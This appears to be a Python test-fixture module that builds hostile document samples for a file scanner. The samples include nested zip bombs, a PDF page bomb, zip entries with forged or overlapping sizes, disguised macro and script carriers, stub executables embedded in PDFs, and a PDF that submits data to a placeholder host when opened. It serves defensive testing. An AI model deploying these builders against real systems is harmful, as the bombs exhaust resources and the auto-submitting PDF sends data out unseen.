"""Files made to do harm: bombs, liars, carriers of scripts and of other files."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.documents.files import WORD_TYPES, archive, compound, docx, saved

HWP_FRAME = "function OnDocument_New()\r\n{\r\n\t//todo : \r\n}\r\n\r\nfunction OnDocument_Open()\r\n{\r\n}\r\n"
HWP_HEAD = "var Documents = XHwpDocuments;\r\nvar Document = Documents.Active_XHwpDocument;\r\n"
HWP_MACRO = HWP_FRAME + 'function OnScriptMacro_script1()\r\n{\r\n\tHAction.Run("FileSaveAs");\r\n}\r\n'


def docx_with(members: dict[str, bytes]) -> bytes:
    return docx(**{name.replace("/", "__"): content for name, content in members.items()})


def nested_bomb(levels: int = 1) -> bytes:
    """A document with an archive in it (and one in that …), the innermost of which unpacks to 80 MB."""
    inner = zip_of({f"{place}.bin": bytes(20 << 20) for place in range(4)})
    for _ in range(levels - 1):
        inner = zip_of({"inner.zip": inner})
    return docx_with({"word/embeddings/sheet.xlsx": inner})


def deeply_nested() -> bytes:
    """Three archives in one another, none of them large."""
    return docx_with({"word/embeddings/a.docx": zip_of({"b.docx": zip_of({"c.txt": b"c"})})})


def zip_of(members: dict[str, bytes]) -> bytes:
    return archive(dict(members))


def liar() -> bytes:
    """A document one of whose members claims ten bytes and unpacks to 40 MB."""
    content = bytearray(docx_with({"word/media/image1.png": bytes(40 << 20)}))
    true, told = struct.pack("<I", 40 << 20), struct.pack("<I", 10)
    return bytes(content).replace(true, told)


def overlapping() -> bytes:
    """A document whose list of contents names one packed piece again and again."""
    content = docx_with({"word/media/image1.png": bytes(9 << 20)})
    written = io.BytesIO(content)
    with zipfile.ZipFile(written, "a") as made:
        (packed,) = (each for each in made.infolist() if each.filename.startswith("word/media"))
        for place in range(400):
            again = zipfile.ZipInfo(f"word/media/again{place}.png")
            again.header_offset, again.CRC = packed.header_offset, packed.CRC
            again.compress_size, again.file_size = packed.compress_size, packed.file_size
            again.compress_type = packed.compress_type
            made.filelist.append(again)
        made._didModify = True
    return written.getvalue()


def renamed_macro_docx() -> bytes:
    """A document whose macros lie in a member with an innocent name."""
    override = '<Override PartName="/word/style.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    return archive(
        {
            "[Content_Types].xml": WORD_TYPES.replace("</Types>", override),
            "_rels/.rels": "<Relationships/>",
            "word/document.xml": "<w:document/>",
            "word/style.bin": b"\xd0\xcf\x11\xe0",
        }
    )


def hwpx_with_script(script: str) -> bytes:
    return archive(
        {
            "mimetype": "application/hwp+zip",
            "Contents/content.hpf": "<p/>",
            "Contents/section0.xml": "<s/>",
            "Scripts/headerScripts": HWP_HEAD.encode("utf-16-le"),
            "Scripts/sourceScripts": script.encode("utf-16-le"),
        },
        stored="mimetype",
    )


def hwp_with_script(script: str, *, flags: int = 1) -> bytes:
    parts = b"".join(
        struct.pack("<I", len(each)) + each.encode("utf-16-le") for each in (HWP_HEAD, script, "", "")
    ) + struct.pack("<i", -1)
    packer = zlib.compressobj(wbits=-15)
    header = b"HWP Document File".ljust(32, b"\0") + struct.pack("<II", 0x05010100, flags)
    return compound(
        {
            "FileHeader": header.ljust(256, b"\0"),
            "DocInfo": b"x" * 300,
            "DefaultJScript": packer.compress(parts) + packer.flush(),
        }
    )


def odt_with_script() -> bytes:
    return archive(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": "<c/>",
            "META-INF/manifest.xml": "<m/>",
            "Scripts/python/run.py": "import os",
        },
        stored="mimetype",
    )


def pdf_with_file(place: str) -> bytes:
    """A PDF that carries another file: in its list of attachments, or pinned to a page."""
    with pikepdf.new() as made:
        made.add_blank_page()
        if place == "list":
            made.attachments["설치.exe"] = b"MZ" + bytes(90)
        else:
            kept = made.make_stream(b"MZ" + bytes(90), Type=Name.EmbeddedFile)
            pinned = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=kept))
            note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=pinned)
            made.pages[0].obj["/Annots"] = Array([made.make_indirect(note)])
        return saved(made)


def pdf_that_sends() -> bytes:
    with pikepdf.new() as made:
        made.add_blank_page()
        made.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("http://example.invalid"))
        return saved(made)


def pdf_with_page_bomb() -> bytes:
    """A PDF whose page is drawn by 300 KB that unpack to 300 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(50 << 20)) for _ in range(6)) + packer.flush()
    with pikepdf.new() as made:
        made.add_blank_page()
        drawn = made.make_stream(b"")
        drawn.write(packed, filter=Name.FlateDecode)
        made.pages[0].obj["/Contents"] = drawn
        return saved(made)


def pdf_with_huge_picture() -> bytes:
    """A PDF whose picture claims 400 million pixels."""
    with pikepdf.new() as made:
        made.add_blank_page()
        claims = {"/Width": 20_000, "/Height": 20_000, "/BitsPerComponent": 8, "/ColorSpace": Name.DeviceGray}
        picture = made.make_stream(b"\0", {"/Type": Name.XObject, "/Subtype": Name.Image, **claims})
        made.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(Im0=picture))
        return saved(made)
